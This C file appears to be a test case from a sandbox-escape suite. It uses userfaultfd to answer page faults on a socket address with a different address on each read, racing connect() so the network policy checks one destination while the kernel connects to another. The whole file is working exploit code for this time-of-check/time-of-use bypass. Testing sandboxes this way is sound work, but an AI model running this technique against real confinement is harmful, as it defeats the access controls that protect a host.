// escape: answers each page fault on the address itself, with another address each time it is read
// group: argument races
// policy: network
// rootless: userfaultfd(2) hands faults of the kernel only to who has CAP_SYS_PTRACE over the host
// neighbour: connect_tcp --neighbour
// attempts: 2000
// capabilities: CAP_SYS_PTRACE
#include <linux/userfaultfd.h>
#include <sys/ioctl.h>

#include "escape.h"

static char* page;
static int faults;

// The first that reads gets what bit 0 of the attempt's number says, the second what bit 1 says, and so on.
static void* answer_faults(void* unused) {
  static char contents[4096] __attribute__((aligned(4096)));
  for (int asked = 0;;) {
    struct uffd_msg message;
    if (read(faults, &message, sizeof message) != sizeof message) continue;
    const struct sockaddr_in address = (shared->attempts >> (asked++ % 3)) & 1 ? stranger() : the_friend();
    memcpy(contents, &address, sizeof address);
    struct uffdio_copy copy = {.dst = (uintptr_t)page, .src = (uintptr_t)contents, .len = 4096};
    ioctl(faults, UFFDIO_COPY, &copy);
    madvise(page, 4096, MADV_DONTNEED);  // whoever reads it once more faults once more
  }
  return unused;
}

static void attack(void) {
  faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
  if (faults < 0) held("userfaultfd: %s", strerror(errno));
  struct uffdio_api api = {.api = UFFD_API};
  page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  struct uffdio_register range = {.range = {(uintptr_t)page, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
  if (ioctl(faults, UFFDIO_API, &api) < 0 || ioctl(faults, UFFDIO_REGISTER, &range) < 0)
    broken("userfaultfd");
  thread(answer_faults, NULL);
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, (struct sockaddr*)page, sizeof(struct sockaddr_in));
    close(fd);
  }
}
